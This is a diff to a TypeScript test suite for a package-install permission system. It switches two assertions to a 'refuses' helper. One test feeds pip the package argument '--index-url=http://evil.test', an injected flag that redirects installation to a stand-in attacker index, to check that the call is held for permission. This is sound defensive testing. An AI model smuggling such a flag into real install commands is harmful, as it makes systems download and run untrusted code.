@@ -3,7 +3,7 @@ import assert from 'node:assert/strict';
 import { afterEach, test } from 'node:test';
 import { PACKAGE_MANAGERS, REGISTRY_OF, type PackageManager } from '@hamlet/contract';
 import { registryOff } from '@hamlet/core/egress';
-import { codeOf, dataOf } from '@hamlet/test/env/client';
+import { dataOf, refuses } from '@hamlet/test/env/client';
 import { testVillage } from '../../testing/test-village.ts';
 import { PermissionPlay, type Working } from '../testing/permission-play.ts';
 
@@ -52,7 +52,7 @@ test('a call for a registry that is off is denied, naming its setting; for one t
     assert.deepEqual([state, outcome?.code], ['denied', 'egress_registry_off'], manager);
     const said = outcome?.text ?? '';
     assert.ok(said.includes(registryOff(REGISTRY_OF[manager]).message), said);
-    assert.equal(await codeOf(asking.ask(working, callOf(manager))), 'policy_denied', manager);
+    await refuses(asking.ask(working, callOf(manager)), 'policy_denied', manager);
   }
 });
 
@@ -67,5 +67,5 @@ test('an installation taints its run, and the rules treat it as an installation'
   const body = { cycle: working.cycle, attempt: working.attempt, tool: 'install_package', boot: 'b1' };
   const wrong = { ...body, arguments: JSON.stringify({ manager: 'pip', packages: ['--index-url=http://evil.test'] }) };
   const params = { run_id: working.runId, call_id: `${(calls += 1)}.0` };
-  assert.equal(await codeOf(open.play.as('bob').beginCall({ ...params, ...wrong })), 'permission_needed');
+  await refuses(open.play.as('bob').beginCall({ ...params, ...wrong }), 'permission_needed');
 });
